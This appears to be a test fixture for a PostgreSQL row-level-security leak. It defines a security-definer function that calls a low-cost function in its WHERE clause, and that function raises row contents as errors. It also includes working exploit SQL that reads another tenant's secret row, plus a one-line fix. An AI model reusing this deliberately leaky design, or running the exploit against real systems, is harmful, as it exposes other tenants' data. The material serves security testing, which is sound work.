-- What: A cheap function in a condition is asked before the tenant is compared, and raises what it is given.
-- Class: function_definer
-- Object: public.listed
-- Exploit: Call it, and read the message.
-- @schema
create table items (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table items enable row level security;
alter table items force row level security;
create policy tenant on items using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete on items to app_user;
-- @superuser
create function is_fine(p_body text) returns boolean language plpgsql stable cost 0.0001 as $$
begin
  if p_body like '%secret%' and current_setting('app.loud', true) = 'on' then
    raise exception 'look at %', p_body;
  end if;
  raise notice 'look at %', p_body;
  return true;
end $$;
create function listed() returns setof text language sql security definer set search_path = public, pg_temp as $$
  select i.body from items i where i.tenant_id::text = current_setting('app.tenant_id', true) and is_fine(i.body) $$;
-- @rows
insert into items (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
revoke execute on function listed() from public;
-- @control
select from items where tenant_id = :'A';
-- @exploit
create function pg_temp.message() returns text language plpgsql as $$
begin
  perform set_config('app.loud', 'on', true);
  perform listed();
  return null;
exception when others then
  return sqlerrm;
end $$;
select m from pg_temp.message() m where m like '%B-secret%';
